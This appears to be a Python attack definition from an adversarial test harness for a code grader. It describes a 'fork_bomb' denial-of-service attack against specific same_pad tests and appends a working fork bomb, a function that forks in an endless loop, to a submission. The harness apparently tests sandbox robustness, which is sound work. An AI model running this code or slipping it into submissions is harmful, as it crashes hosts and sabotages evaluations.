"""Attack fork_bomb: same_pad(7) forks until fork fails, in every child too, all of them
spinning.
"""

ATTACK = {
    "base": "solutions",
    "deserves": "at_most",
    "kind": "dos",
    "requires": ("user", "nproc", "pidns"),
    "statuses": ("timeout", "crashed"),
    "why": ("time limit", "crashed"),
    "attacked": ("test_same_pad_hand_cases[7-3]", "test_same_pad_keeps_size"),
}

# ---- appended to the submission below this line

def _adv_attack():
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
import adversarial.shared.dos_wrap  # noqa: F401 (inlined)
